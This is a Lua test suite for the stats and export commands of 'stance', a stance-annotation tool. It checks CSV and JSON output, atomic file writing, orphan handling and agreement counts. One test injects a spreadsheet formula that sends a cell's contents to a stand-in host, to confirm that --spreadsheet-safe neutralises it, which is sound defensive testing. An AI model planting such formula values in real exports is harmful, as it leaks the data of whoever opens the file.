-- stance stats and stance export on the example corpus: numbers and records that match
-- the annotation files, formats that other tools read, errors in one line.
local T = require('helpers')
local json = require('stance.json')

local function example()
  local d = T.tmpdir()
  os.execute(('cp -r %s/. %s/'):format(T.q(T.root .. '/doc/example/corpus'), T.q(d)))
  return d
end

--- The fixed fields of a kind of row, then the example corpus's document metadata columns.
local function with_meta(fields)
  local out = {}
  for _, f in ipairs(fields) do
    out[#out + 1] = f
  end
  for _, f in ipairs({ 'doc_title', 'doc_author', 'doc_outlet', 'doc_date', 'doc_genre' }) do
    out[#out + 1] = f
  end
  return out
end

--- Count annotation records per annotator straight from the files.
local function file_counts(d)
  local out = T.run(('cd %s/.stance/annotations && grep -c "^annotation " */*.stance'):format(T.q(d)))
  local per, total = {}, 0
  for who, n in out:gmatch('([^/\n]+)/[^:]+:(%d+)') do
    per[who] = (per[who] or 0) + tonumber(n)
    total = total + tonumber(n)
  end
  return per, total
end

--- A minimal RFC 4180 reader (quoted fields may hold commas, quotes and line ends).
local function csv_rows(s)
  local rows, row, field, i, quoted = {}, {}, {}, 1, false
  while i <= #s do
    local c = s:sub(i, i)
    if quoted then
      if c == '"' and s:sub(i + 1, i + 1) == '"' then
        field[#field + 1] = '"'
        i = i + 1
      elseif c == '"' then
        quoted = false
      else
        field[#field + 1] = c
      end
    elseif c == '"' then
      quoted = true
    elseif c == ',' then
      row[#row + 1] = table.concat(field)
      field = {}
    elseif c == '\r' and s:sub(i + 1, i + 1) == '\n' then
      row[#row + 1] = table.concat(field)
      rows[#rows + 1] = row
      row, field = {}, {}
      i = i + 1
    else
      field[#field + 1] = c
    end
    i = i + 1
  end
  return rows
end

--- The study with ben's layer on three documents, the first cut short in a note of its
--- fourth record and the second with git's conflict markers; and the same corpus without
--- those two files (what every count must equal). nil when ../shared is not here.
local function broken_study()
  local d = require('helpers.study').annotated('(none)')
  if not d then return nil end
  local B = require('helpers.broken_layers')
  local D = B.DOCS
  B.copy(d, 'ben', D)
  local ref = B.without(d, { { 'ben', D[1] }, { 'ben', D[2] } })
  B.cut_in_note(B.path(d, 'ben', D[1]))
  B.conflict(B.path(d, 'ben', D[2]))
  return d, ref, D
end

describe('stance stats', function()
  after_each(T.cleanup)

  it('counts documents, words and annotations per annotator, label, target, stance', function()
    local d = example()
    local out, err, code = T.stance_run({ 'stats', d })
    assert.are.equal(0, code, err)
    local per, total = file_counts(d)
    assert.truthy(out:find(('annotations  %d\n'):format(total), 1, true), out)
    assert.truthy(out:find('documents    4 (4 annotated)', 1, true), out)
    for who, n in pairs(per) do
      assert.truthy(out:find(('\n%s%%s+%d\n'):format(who, n)), who)
    end
    -- words as the index counts them: what the tokenizer finds in each document
    local words = 0
    for _, f in ipairs({ '01_charge_works.txt', '02_charge_unfair.txt', '03_charge_evidence.txt', '04_letter.txt' }) do
      words = words + #require('stance.core').tokenize(T.read(d .. '/' .. f))
    end
    assert.truthy(out:find(('words        %d\n'):format(words), 1, true), out)

    local js = assert(json.decode((T.stance_run({ 'stats', '--json', d }))))
    assert.are.equal(total, js.annotations)
    assert.are.equal(4, js.documents)
    assert.are.equal(words, js.words)
    assert.are.same(per, js.by.annotator)
    local sum = 0
    for _, n in pairs(js.by.label) do
      sum = sum + n
    end
    assert.are.equal(total, sum)

    js = assert(json.decode((T.stance_run({ 'stats', '--json', '--annotator', 'ben', d }))))
    assert.are.same({ ben = per.ben }, js.by.annotator)

    -- a suggestion an annotator rejected (g-) is kept in the model layer, and is no annotation
    T.write(d .. '/.stance/annotations/model/01_charge_works.txt.stance', table.concat({ 'format stance 1', '',
      'document "01_charge_works.txt"', '  annotator model', '', 'annotation r1', '  span 0-10', '  label favor',
      '  target congestion-charge', '  stance favor', '  confidence 0.9', '  note "rejected by ana"',
      '', 'annotation s1', '  span 11-20', '  label favor', '  target congestion-charge', '  stance favor',
      '  confidence 0.8', '' }, '\n'))
    -- (the model's suggestions are counted only when asked: --with-suggestions)
    js = assert(json.decode((T.stance_run({ 'stats', '--json', d }))))
    assert.are.equal(total, js.annotations)
    js = assert(json.decode((T.stance_run({ 'stats', '--json', '--with-suggestions', d }))))
    assert.are.equal(total + 1, js.annotations)
    assert.are.equal(1, js.by.annotator.model)
    local before = js
    os.remove(d .. '/.stance/annotations/model/01_charge_works.txt.stance')
    local function first_group()
      return assert(json.decode((T.stance_run({ 'stats', '--json', '--by', 'document', '--with-suggestions', d }))))
        .groups[1]
    end
    local without = first_group()
    T.write(d .. '/.stance/annotations/model/01_charge_works.txt.stance', table.concat({ 'format stance 1', '',
      'document "01_charge_works.txt"', '  annotator model', '', 'annotation r1', '  span 0-10', '  label favor',
      '  target congestion-charge', '  stance favor', '  note "rejected by ana"', '' }, '\n'))
    assert.are.same(without, first_group())
    assert.are.equal(total + 1, before.annotations)
  end)

  it('counts nothing of a layer file with errors: the counts are those without it, each file named, exit 1',
    function()
      local d, ref, D = broken_study()
      if not d then return pending('../shared is absent: the study cannot be tried') end
      for _, args in ipairs({ { 'stats', '--json' }, { 'stats', '--json', '--by', 'document' },
        { 'stats', '--json', '--annotator', 'ben' } }) do
        local want, werr, wcode = T.stance_run(args, nil, ref)
        assert.are.equal(0, wcode, werr)
        local got, err, code = T.stance_run(args, nil, d)
        assert.are.equal(1, code, err)
        assert.are.same(json.decode(want), json.decode(got))
        for i = 1, 2 do
          assert.truthy(('\n' .. err):find(('\n%%.stance/annotations/ben/%s.stance:%%d+:%%d+: error: [^\n]*; ben\'s file left out of '
            .. '%s: none of it counted'):format(D[i]:gsub('%p', '%%%0'), D[i]:gsub('%p', '%%%0'))), err)
        end
      end
    end)

  it('fails in one line outside a corpus', function()
    local d = T.tmpdir()
    local out, err, code = T.stance_run({ 'stats', d })
    assert.are.equal(1, code)
    assert.are.equal('', out)
    assert.truthy(err:find('^stance stats: .* is not inside a corpus [^\n]*\n$'), err)
  end)
end)

describe('stance export of sentences', function()
  after_each(T.cleanup)

  it('exports no sentence of a layer file with errors (never "no stance"): the rows are those without it', function()
    local d, ref, D = broken_study()
    if not d then return pending('../shared is absent: the study cannot be tried') end
    for _, args in ipairs({ { 'export', '--to', 'csv', '--unit', 'sentence-target' },
      { 'export', '--to', 'jsonl', '--unit', 'sentence' } }) do
      local want, werr, wcode = T.stance_run(args, nil, ref)
      assert.are.equal(0, wcode, werr)
      local got, err, code = T.stance_run(args, nil, d)
      assert.are.equal(1, code, err)
      assert.are.equal(want, got)
      for i = 1, 2 do
        assert.truthy(('\n' .. err):find(('\n%%.stance/annotations/ben/%s.stance:%%d+:%%d+: warning: [^\n]*; ben\'s file left out of '
          .. '%s: none of it exported'):format(D[i]:gsub('%p', '%%%0'), D[i]:gsub('%p', '%%%0'))), err)
      end
    end
  end)
end)

describe('stance export', function()
  after_each(T.cleanup)

  it('writes one JSON line per annotation, fields in order, offsets that hold the quote', function()
    local d = example()
    local out, err, code = T.stance_run({ 'export', '--to', 'jsonl', d })
    assert.are.equal(0, code, err)
    local _, total = file_counts(d)
    local lines = T.lines(out:gsub('\n$', ''))
    assert.are.equal(total, #lines)
    local order = require('stance.export.rows').annotation_fields
    for _, line in ipairs(lines) do
      local r = assert(json.decode(line))
      -- keys appear in the documented order
      local last = 0
      for key in line:gmatch('"([%w_]+)":') do
        local pos
        for i, f in ipairs(order) do
          if f == key then pos = i end
        end
        if pos then
          assert.is_true(pos > last, key)
          last = pos
        end
      end
      local text = T.read(d .. '/' .. r.document)
      local parts = {}
      for i, sp in ipairs(r.spans) do
        parts[i] = T.cp_sub(text, sp[1], sp[2])
      end
      assert.are.equal(r.quote, table.concat(parts, ' '))
      assert.are.equal(r.quote:sub(1, 8), text:sub(r.byte_start + 1, r.byte_start + 8))
      local line_text = T.lines(text)[r.line]
      assert.are.equal(r.quote:sub(1, 5), line_text:sub(r.col, r.col + 4))
    end
  end)

  it('writes CSV that a CSV reader reads back, to a file with --output', function()
    local d = example()
    local out, err, code = T.stance_run({ 'export', '--to', 'csv', '--output', d .. '/out.csv', d })
    assert.are.equal(0, code, err)
    assert.are.equal('', out)
    local rows = csv_rows(T.read(d .. '/out.csv'))
    assert.are.same(with_meta(require('stance.export.rows').annotation_fields), rows[1])
    local _, total = file_counts(d)
    assert.are.equal(total + 1, #rows)
    local jsonl = T.lines((T.stance_run({ 'export', '--to', 'jsonl', d })):gsub('\n$', ''))
    for i = 2, #rows do
      local r = json.decode(jsonl[i - 1])
      assert.are.equal(r.quote, rows[i][15])
      assert.are.equal(r.id, rows[i][3])
      assert.are.equal(tostring(r.start), rows[i][8])
    end
  end)

  it('writes fields as they are; with --spreadsheet-safe a formula-like one gets a single quote first', function()
    local d = example()
    local f = (T.run('ls ' .. T.q(d) .. '/.stance/annotations/ana/*.stance')):match('[^\n]+')
    local text = T.read(f)
    -- a note and an author a spreadsheet would run as formulas (CSV injection)
    T.write(f, text .. '\nannotation inj1\n  span 0-4\n  label evidence\n'
      .. '  note "=HYPERLINK(\\"http://x.example/?\\"&A2)"\n  author "@SUM(1+1)"\n')
    local plain = T.stance_run({ 'export', '--to', 'csv', '--annotator', 'ana', d })
    assert.truthy(plain:find(',"=HYPERLINK(""http://x.example/?""&A2)",@SUM(1+1),', 1, true), plain)
    local safe, err, code = T.stance_run({ 'export', '--to', 'csv', '--annotator', 'ana', '--spreadsheet-safe', d })
    assert.are.equal(0, code, err)
    assert.truthy(safe:find(',"\'=HYPERLINK(""http://x.example/?""&A2)",\'@SUM(1+1),', 1, true), safe)
    -- numbers stay numbers, and nothing else changes
    local csv = require('stance.export.csv')
    assert.is_true(csv.formula_like('-0.5'))
    assert.are.equal(#T.lines(plain), #T.lines(safe))
    assert.are.equal(plain, (safe:gsub("([,\"])'([=@])", '%1%2')))
    local _, uerr, ucode = T.stance_run({ 'export', '--to', 'jsonl', '--spreadsheet-safe', d })
    assert.are.equal(2, ucode)
    assert.truthy(uerr:find('--spreadsheet-safe is for --to csv', 1, true), uerr)
  end)

  it('stops and leaves --output as it was when a temporary file fails or the export is interrupted', function()
    local d = example()
    local cmd = require('stance.cli.export')
    local out = d .. '/out.csv'
    T.write(out, 'before\n')
    -- a temporary file that cannot be made (a full /tmp): an error, nothing replaced
    local before, tmpfile = cmd.DOC_MEMORY, io.tmpfile
    cmd.DOC_MEMORY = 64
    io.tmpfile = function() return nil, 'No space left on device' end -- luacheck: ignore 122
    local ok, rc, err = pcall(cmd.run, { to = 'csv', output = out }, { d })
    io.tmpfile = tmpfile -- luacheck: ignore 122
    cmd.DOC_MEMORY = before
    assert.is_true(ok, tostring(rc))
    assert.is_nil(rc)
    assert.truthy(tostring(err):find('No space left on device', 1, true), err)
    assert.are.equal('before\n', T.read(out))
    -- Ctrl-C in the middle (Lua's "interrupted!"): raised again, nothing replaced
    local csv = require('stance.export.csv')
    local writer = csv.writer
    csv.writer = function(...)
      local emit, n = writer(...), 0
      return function(row)
        n = n + 1
        if n > 3 then error('interrupted!') end
        return emit(row)
      end
    end
    local ok2, e2 = pcall(cmd.run, { to = 'csv', output = out }, { d })
    csv.writer = writer
    assert.is_false(ok2)
    assert.truthy(tostring(e2):find('interrupted!', 1, true), e2)
    assert.are.equal('before\n', T.read(out))
  end)

  it("writes a document's rows through a temporary file past a bound, the same bytes, the output whole", function()
    local d = example()
    local cmd = require('stance.cli.export')
    local before = cmd.DOC_MEMORY
    for _, fmt in ipairs({ 'csv', 'jsonl' }) do
      local want, err, code = T.stance_run({ 'export', '--to', fmt, d })
      assert.are.equal(0, code, err)
      cmd.DOC_MEMORY = 64 -- every document spilled
      local ok, rc = pcall(cmd.run, { to = fmt, output = d .. '/small.' .. fmt }, { d })
      cmd.DOC_MEMORY = before
      assert.is_true(ok, tostring(rc))
      assert.are.equal(0, rc)
      assert.are.equal(want, T.read(d .. '/small.' .. fmt))
    end
    -- the stream that --output writes: the file replaced only when committed
    local core = require('stance.core')
    local path = d .. '/stream.txt'
    T.write(path, 'old\n')
    local f = assert(core.atomic_stream(path))
    assert(f:write('new '))
    assert(f:write('text\n'))
    assert.are.equal('old\n', T.read(path))
    assert(f:commit())
    assert.are.equal('new text\n', T.read(path))
    f = assert(core.atomic_stream(path))
    assert(f:write('half'))
    f:abort()
    assert.are.equal('new text\n', T.read(path))
    assert.is_nil((core.atomic_stream(d .. '/no/such/folder/x')))
  end)

  it('writes one record per sentence with the labels over it, and who is done with it', function()
    local d = example()
    -- ben has finished the first document: its sentences without his labels have no stance
    local first = assert(require('stance').open(d))
    local firstdoc = assert(first:document(first:paths()[1]))
    assert(firstdoc:set_status('done', 'ben'))
    assert(first:save())
    local done = {}
    for doc in first:documents() do
      done[doc.path] = {}
      for _, who in ipairs(doc:annotators()) do
        if doc:status(who) == 'done' then table.insert(done[doc.path], who) end
      end
    end
    assert.truthy(table.concat(done[firstdoc.path], ' '):find('ben', 1, true))
    local out, err, code = T.stance_run({ 'export', '--to', 'jsonl', '--unit', 'sentence', d })
    assert.are.equal(0, code, err)
    local c = assert(require('stance').open(d))
    local n = 0
    for doc in c:documents() do
      n = n + #doc:sentences()
    end
    local lines = T.lines(out:gsub('\n$', ''))
    assert.are.equal(n, #lines)
    local found = false
    for _, line in ipairs(lines) do
      local r = json.decode(line)
      assert.are.equal(r.text, T.cp_sub(T.read(d .. '/' .. r.document), r.start, r.stop))
      assert.are.same(done[r.document], r.done)
      if r.text == 'It should be reformed, or it should go.' then
        found = true
        assert.are.equal(1, #r.labels)
        assert.are.same({ annotator = 'ben', label = 'against', target = 'congestion-charge', stance = 'against',
          role = 'claim' }, r.labels[1])
      end
    end
    assert.is_true(found)
    local csv = csv_rows((T.stance_run({ 'export', '--to', 'csv', '--unit', 'sentence', d })))
    assert.are.same(with_meta({ 'document', 'sentence', 'start', 'stop', 'line', 'text', 'labels', 'done',
      'suggestions', 'targets' }), csv[1])
    assert.are.equal(n + 1, #csv)
    for i = 2, #csv do
      assert.are.equal(table.concat(done[csv[i][1]], ';'), csv[i][8])
    end
  end)

  --- The example corpus with relations and document labels of two annotators.
  local function with_links()
    local d = example()
    local c = assert(require('stance').open(d))
    for doc in c:documents() do
      for _, who in ipairs(doc:annotators()) do
        local anns = doc:annotations({ annotator = who })
        for i = 2, #anns, 2 do
          assert(doc:relate(anns[i].id, anns[i - 1].id, 'supports', { annotator = who,
            note = i == 2 and 'a note, with "quotes"\nand a line end' or nil }))
        end
        assert(doc:set_label({ target = 'congestion-charge', stance = 'favor', annotator = who,
          note = 'overall' }))
      end
    end
    assert(c:save())
    return d, c
  end

  it('writes relations and document labels too: JSON Lines with a kind each, CSV by unit', function()
    local d, c = with_links()
    local nrel, ndoc = 0, 0
    for doc in c:documents() do
      nrel = nrel + #doc:relations()
      ndoc = ndoc + #doc:labels()
    end
    assert.is_true(nrel > 0 and ndoc > 0)
    local out, err, code = T.stance_run({ 'export', '--to', 'jsonl', d })
    assert.are.equal(0, code, err)
    local kinds, fields = {}, require('stance.export.rows').fields
    for _, line in ipairs(T.lines(out:gsub('\n$', ''))) do
      local r = assert(json.decode(line))
      kinds[r.kind] = (kinds[r.kind] or 0) + 1
      local last = 0
      for key in line:gmatch('"([%w_]+)":') do
        for i, f in ipairs(fields[r.kind]) do
          if f == key then
            assert.is_true(i > last, key)
            last = i
          end
        end
      end
      if r.kind == 'relation' then
        assert.truthy(r.from and r.to and r.type == 'supports' and r.from_quote and r.to_label, line)
      end
      if r.kind == 'doclabel' then
        assert.are.same({ 'congestion-charge', 'favor', 'overall' }, { r.target, r.stance, r.note })
      end
    end
    local _, total = file_counts(d)
    assert.are.same({ annotation = total, relation = nrel, doclabel = ndoc }, kinds)
    -- one kind with --unit
    local rel = T.lines((T.stance_run({ 'export', '--to', 'jsonl', '--unit', 'relation', d })):gsub('\n$', ''))
    assert.are.equal(nrel, #rel)
    local csv = csv_rows((T.stance_run({ 'export', '--to', 'csv', '--unit', 'relation', d })))
    assert.are.same(with_meta(fields.relation), csv[1])
    assert.are.equal(nrel + 1, #csv)
    local notes = 0
    for i = 2, #csv do
      if csv[i][11] == 'a note, with "quotes"\nand a line end' then notes = notes + 1 end
    end
    assert.is_true(notes > 0)
    csv = csv_rows((T.stance_run({ 'export', '--to', 'csv', '--unit', 'doclabel', d })))
    assert.are.same(with_meta(fields.doclabel), csv[1])
    assert.are.equal(ndoc + 1, #csv)
    assert.are.same(csv, csv_rows((T.stance_run({ 'export', '--to', 'csv', '--unit', 'document', d }))))
    -- a CSV file holds one kind of row
    local _, aerr, acode = T.stance_run({ 'export', '--to', 'csv', '--unit', 'all', d })
    assert.are.equal(2, acode)
    assert.truthy(aerr:find('one kind of row', 1, true))
  end)

  it("quotes a relation's ends from the document, also when their file records no quote", function()
    local d = example()
    T.write(d .. '/t.txt', 'We should act now. Because it burns.\n')
    T.run(('mkdir -p %s'):format(T.q(d .. '/.stance/annotations/zoe')))
    T.write(d .. '/.stance/annotations/zoe/t.txt.stance', table.concat({ 'format stance 1', '',
      'document "t.txt"', '  annotator zoe', '', 'annotation a', '  span 0-18', '  label favor', '',
      'annotation b', '  span 19-36', '  label favor', '', 'relation r', '  type supports', '  from b', '  to a', '',
    }, '\n'))
    local out, err, code = T.stance_run({ 'export', '--to', 'jsonl', '--unit', 'relation', '--annotator', 'zoe', d })
    assert.are.equal(0, code, err)
    local r = assert(json.decode(out))
    assert.are.same({ 'Because it burns.', 'We should act now.', 'favor', 'favor' },
      { r.from_quote, r.to_quote, r.from_label, r.to_label })
  end)

  it('gives the same bytes every time, in every format', function()
    local d = with_links()
    for _, args in ipairs({ { '--to', 'jsonl' }, { '--to', 'csv' }, { '--to', 'csv', '--unit', 'relation' },
      { '--to', 'w3c' }, { '--to', 'w3c', '--unit', 'annotation' }, { '--to', 'jsonl', '--unit', 'sentence' } }) do
      local cmd = { 'export' }
      for _, a in ipairs(args) do
        cmd[#cmd + 1] = a
      end
      cmd[#cmd + 1] = d
      local first = T.stance_run(cmd)
      assert.truthy(#first > 100)
      for _ = 1, 3 do
        assert.are.equal(first, (T.stance_run(cmd)), table.concat(args, ' '))
      end
    end
  end)

  it('exports an orphan as one and goes on: one bad record never stops an export', function()
    local d = example()
    -- shortened: annotations of the end of the first document now lie past its end
    local first = d .. '/01_charge_works.txt'
    T.write(first, T.read(first):sub(1, 120))
    for _, fmt in ipairs({ 'jsonl', 'csv', 'w3c' }) do
      local out, err, code = T.stance_run({ 'export', '--to', fmt, d })
      assert.are.equal(1, code, fmt .. ': ' .. err)
      assert.truthy(err:find('is an orphan', 1, true), err)
      if fmt == 'jsonl' then
        local orphans, others = 0, 0
        for _, line in ipairs(T.lines(out:gsub('\n$', ''))) do
          local r = assert(json.decode(line))
          if r.orphan then
            orphans = orphans + 1
            assert.is_nil(r.line)
            assert.truthy(r.quote)
          elseif r.document ~= '01_charge_works.txt' then
            others = others + 1
          end
        end
        assert.is_true(orphans > 0 and others > 0)
      elseif fmt == 'csv' then
        local rows = csv_rows(out)
        local _, total = file_counts(d)
        assert.are.equal(total + 1, #rows)
        for i = 2, #rows do
          assert.are.equal(#rows[1], #rows[i])
        end
      else
        assert.truthy(json.decode(out))
      end
    end
    local dst = T.tmpdir() .. '/brat'
    local _, berr, bcode = T.stance_run({ 'export', '--to', 'brat', '--annotator', 'ana,ben', dst }, nil, d)
    assert.are.equal(1, bcode)
    assert.truthy(berr:find('is an orphan', 1, true), berr)
    assert.truthy(T.exists(dst .. '/04_letter.ann'))
  end)

  it('checks each quote where its file places it, whatever hash the file records', function()
    local d = example()
    local core = require('stance.core')
    local doc = d .. '/01_charge_works.txt'
    local text = T.read(doc)
    local model = core.text(text)
    -- a file with the document's hash whose offsets point at other words: one annotation
    -- moved 7 code points on (as a collaborator's file, or an older stance's orphan, may be)
    local path = d .. '/.stance/annotations/ana/01_charge_works.txt.stance'
    local store = assert(core.read(T.read(path)))
    assert.are.equal('sha256:' .. core.sha256(text), store:header().hash)
    local r = store:records('annotation')[1]
    local want = { r.spans[1][1], r.spans[#r.spans][2] }
    local sp = {}
    for i, s0 in ipairs(r.spans) do
      sp[i] = { s0[1] + 7, s0[2] + 7 }
    end
    assert(store:update(r.id, { spans = sp }))
    T.write(path, store:write())
    -- and an annotation whose words are nowhere in the text (kept as an orphan)
    T.write(path, T.read(path):gsub('\nannotation ' .. r.id .. '\n', '\nannotation gone1\n  span 0-5\n  label favor\n'
      .. '  quote "no such words"\n\n%0', 1))
    local out, err, code = T.stance_run({ 'export', '--to', 'jsonl', d })
    assert.are.equal(1, code, err)
    assert.truthy(err:find('gone1 is an orphan', 1, true), err)
    local seen = 0
    for _, line in ipairs(T.lines(out:gsub('\n$', ''))) do
      local row = assert(json.decode(line))
      if row.id == r.id and row.annotator == 'ana' then
        seen = seen + 1
        assert.are.same(want, { row.start, row.stop })
        assert.is_nil(row.orphan)
        assert.are.equal(r.quote, text:sub(model:cp_to_byte(row.start) + 1, model:cp_to_byte(row.stop)))
      elseif row.id == 'gone1' then
        seen = seen + 1
        assert.is_true(row.orphan)
      end
    end
    assert.are.equal(2, seen)
  end)

  it('lists every format in its help', function()
    local out, _, code = T.stance_run({ 'export', '--help' })
    assert.are.equal(0, code)
    for _, f in ipairs({ 'jsonl', 'csv', 'w3c', 'brat' }) do
      assert.truthy(out:find('--to ' .. f, 1, true), f)
    end
  end)

  it('rejects bad flags in one line with status 2', function()
    local d = example()
    for _, case in ipairs({
      { { 'export', d }, '--to is needed' },
      { { 'export', '--to', 'xml', d }, "unknown format 'xml'" },
      { { 'export', '--to', 'csv', '--unit', 'word', d }, "unknown unit 'word'" },
    }) do
      local out, err, code = T.stance_run(case[1])
      assert.are.equal(2, code)
      assert.are.equal('', out)
      assert.truthy(err:find(case[2], 1, true), err)
      assert.are.equal(1, #T.lines(err:gsub('\n$', '')))
    end
  end)

  --- The study's corpus (../shared) with its schema, in a new folder; nil when absent.
  local function study()
    if not T.shared then return nil end
    local d = T.tmpdir()
    os.execute(('mkdir -p %s/.stance && cp %s/corpus/*.txt %s/ && cp %s/study/schema.stance %s/.stance/'):format(
      T.q(d), T.q(T.shared), T.q(d), T.q(T.shared), T.q(d)))
    return d
  end

  it('counts an annotation for a sentence as agreement does: by half, not by touching it (the study)', function()
    local d = study()
    if not d then return pending('../shared is absent: the study cannot be tried') end
    local c = assert(require('stance').open(d))
    local path = '000_6358a7516b2472dd.txt'
    local doc = assert(c:document(path))
    local s = doc:sentences()
    local text = T.read(d .. '/' .. path)
    -- one word into the next sentence: the end of its first word
    local next_text = s[3].text
    local word = #(next_text:match('^%S+'))
    local spill = s[3].start + require('stance.utf8').len(next_text:sub(1, word))
    local function add(who, a, b, target, stance)
      assert(doc:annotate({ start = a, stop = b, label = target .. '-' .. stance, target = target, stance = stance,
        role = 'claim', annotator = who }))
    end
    add('ana', s[2].start, spill, 'engagement', 'favor') -- sentence 2 and a word of 3
    add('ben', s[2].start, s[2].stop, 'engagement', 'against')
    add('ben', s[3].start, s[3].stop, 'engagement', 'favor')
    add('ana', s[4].start, s[4].stop, 'sanctions', 'against')
    add('ben', s[4].start, s[5].stop, 'sanctions', 'against') -- sentences 4 and 5 whole
    add('ana', s[6].start, s[6].stop, 'human-rights', 'favor')
    add('ana', s[6].start, s[6].stop - 3, 'human-rights', 'against') -- the shorter one loses
    assert(doc:set_status('done', 'ana'))
    assert(doc:set_status('done', 'ben'))
    assert(c:save())
    assert.truthy(text:find(next_text, 1, true))
    -- the sentence CSV: ana's first annotation on sentence 2 only
    local out, err, code = T.stance_run({ 'export', '--to', 'csv', '--unit', 'sentence', d })
    assert.are.equal(0, code, err)
    local rows = csv_rows(out)
    local labels = {}
    for i = 2, #rows do
      if rows[i][1] == path then labels[tonumber(rows[i][2])] = rows[i][7] end
    end
    assert.are.equal('ana:engagement-favor:engagement:favor:claim;ben:engagement-against:engagement:against:claim',
      labels[2])
    assert.are.equal('ben:engagement-favor:engagement:favor:claim', labels[3])
    assert.are.equal('ben:sanctions-against:sanctions:against:claim', labels[5])
    -- one row per (sentence, target, annotator): the stance agreement counts
    out, err, code = T.stance_run({ 'export', '--to', 'csv', '--unit', 'sentence-target', d })
    assert.are.equal(0, code, err)
    rows = csv_rows(out)
    assert.are.same({ 'document', 'sentence', 'start', 'stop', 'line', 'text', 'target', 'annotator', 'stance',
      'status', 'suggested', 'confidence' }, rows[1])
    local stance_of = {} -- [start][target] = { ana = stance or false, ben = ... }
    local n = 0
    for i = 2, #rows do
      local r = rows[i]
      if r[1] == path then
        n = n + 1
        assert.are.equal('done', r[10])
        local by_t = stance_of[tonumber(r[3])] or {}
        stance_of[tonumber(r[3])] = by_t
        by_t[r[7]] = by_t[r[7]] or {}
        by_t[r[7]][r[8]] = r[9] ~= '' and r[9] or false
      end
    end
    assert.are.equal(#s * 4 * 2, n) -- every sentence, the four targets, two annotators
    assert.are.same({ ana = 'favor', ben = 'against' }, stance_of[s[2].start].engagement)
    assert.are.same({ ana = false, ben = 'favor' }, stance_of[s[3].start].engagement)
    assert.are.same({ ana = 'favor', ben = false }, stance_of[s[6].start]['human-rights'])
    -- what stance agree --disagreements lists is exactly where the CSV's stances differ
    out, err = T.stance_run({ 'agree', '--field', 'stance', '--disagreements', '--json', d })
    local report = assert(json.decode(out), err)
    local listed = {}
    local function walk(v)
      if type(v) ~= 'table' then return end
      if v.path == path and v.start and type(v.values) == 'table' then
        local values = {}
        for _, who in ipairs({ 'ana', 'ben' }) do
          values[who] = type(v.values[who]) == 'string' and v.values[who] or false
        end
        listed[v.start .. '\0' .. tostring(v.target)] = values
        return
      end
      for _, x in pairs(v) do
        walk(x)
      end
    end
    walk(report)
    local differ = 0
    for start, by_t in pairs(stance_of) do
      for t, v in pairs(by_t) do
        local key = start .. '\0' .. t
        if v.ana ~= v.ben then
          differ = differ + 1
          assert.are.same(v, listed[key], key)
        else
          assert.is_nil(listed[key], key)
        end
      end
    end
    local n_listed = 0
    for _ in pairs(listed) do
      n_listed = n_listed + 1
    end
    assert.are.equal(differ, n_listed)
    assert.are.equal(4, differ) -- engagement on 2 and 3, sanctions on 5, human rights on 6
  end)
end)

describe('stance export guards', function()
  after_each(T.cleanup)

  local function run(d, args) return T.run(('cd %s && %s %s'):format(T.q(d), T.q(T.stance), args)) end

  it('says "no layer" for an --annotator the corpus does not have, in every format and in stats', function()
    local d = example()
    for _, args in ipairs({ 'export --to csv', 'export --to jsonl', 'export --to w3c', 'export --to brat ' .. T.q(
      T.tmpdir() .. '/b'), 'stats', 'export --to csv --unit sentence' }) do
      local out, err, code = run(d, args .. ' --annotator nobody')
      assert.are.equal(1, code, args .. ': ' .. out .. err)
      assert.are.equal('', out, args)
      assert.truthy(err:find("no layer 'nobody' in the corpus (it has ana, ben)", 1, true), args .. ': ' .. err)
    end
    -- a known one among them: fine
    local _, err, code = run(d, 'export --to csv --annotator ana')
    assert.are.equal(0, code, err)
  end)

  it('never writes --output over a layer, the schema or a document of the corpus', function()
    local d = example()
    local layer = '.stance/annotations/ana/01_charge_works.txt.stance'
    local before = T.read(d .. '/' .. layer)
    local doc = T.read(d .. '/01_charge_works.txt')
    for _, target in ipairs({ layer, '.stance/schema.stance', '.stance/new.csv', '01_charge_works.txt', 'new.txt' }) do
      for _, to in ipairs({ 'csv', 'jsonl', 'w3c' }) do
        local out, err, code = run(d, ('export --to %s --output %s'):format(to, T.q(target)))
        assert.are.equal(1, code, target .. ': ' .. out .. err)
        assert.truthy(err:find('write the export elsewhere', 1, true), err)
      end
    end
    -- through a link too
    T.run(('ln -s %s %s'):format(T.q(d .. '/' .. layer), T.q(d .. '/link.csv')))
    local _, err, code = run(d, 'export --to csv --output link.csv')
    assert.are.equal(1, code, err)
    assert.are.equal(before, T.read(d .. '/' .. layer))
    assert.are.equal(doc, T.read(d .. '/01_charge_works.txt'))
    assert.is_false(T.exists(d .. '/new.txt'))
    assert.is_false(T.exists(d .. '/.stance/new.csv'))
    -- a file of the corpus folder that is no document: written
    _, err, code = run(d, 'export --to csv --output out.csv')
    assert.are.equal(0, code, err)
    assert.truthy(T.read(d .. '/out.csv'):find('^document,annotator,id'))
  end)

  it('stance diff names the fields that differ', function()
    local d = T.tmpdir()
    local a = table.concat({ 'format stance 1', '', 'annotation x1', '  span 0-5', '  label claim',
      '  quote "Hello"', '  suffix " world"', '  brat-norm Reference W:1 "One"', '' }, '\n')
    T.write(d .. '/a.stance', a)
    T.write(d .. '/b.stance', (a:gsub('W:1', 'W:2'):gsub('" world"', '" there"')))
    local out, _, code = T.run(('%s diff %s %s'):format(T.q(T.stance), T.q(d .. '/a.stance'), T.q(d .. '/b.stance')))
    assert.are.equal(1, code)
    assert.truthy(out:find('attributes brat-norm Reference W:1 "One"\\n -> brat-norm Reference W:2 "One"\\n', 1, true),
      out)
    assert.truthy(out:find('suffix  world ->  there', 1, true), out)
    assert.falsy(out:find('other fields', 1, true), out)
  end)
end)

describe('stance export CSV lists', function()
  after_each(T.cleanup)

  it('escapes : ; and \\ in the names of a sentence\'s labels, so that they split back exactly', function()
    local d = T.tmpdir()
    os.execute('mkdir -p ' .. T.q(d .. '/.stance'))
    T.write(d .. '/.stance/schema.stance', 'format stance 1\ntarget "t:1"\nstance "s;x"\nlabel "l\\\\a:b"\n')
    T.write(d .. '/a.txt', 'One sentence here. Another one there.\n')
    local c = assert(require('stance').open(d))
    local doc = c:document('a.txt')
    assert(doc:annotate({ start = 0, stop = 18, label = 'l\\a:b', target = 't:1', stance = 's;x', annotator = 'an;x' }))
    assert(doc:set_status('done', 'an;x'))
    assert(c:save())
    local out, err, code = T.run(('cd %s && %s export --to csv --unit sentence'):format(T.q(d), T.q(T.stance)))
    assert.are.equal(0, code, err)
    local row = out:match('\r\n(a%.txt,1,[^\r]*)\r\n')
    assert.truthy(row, out)
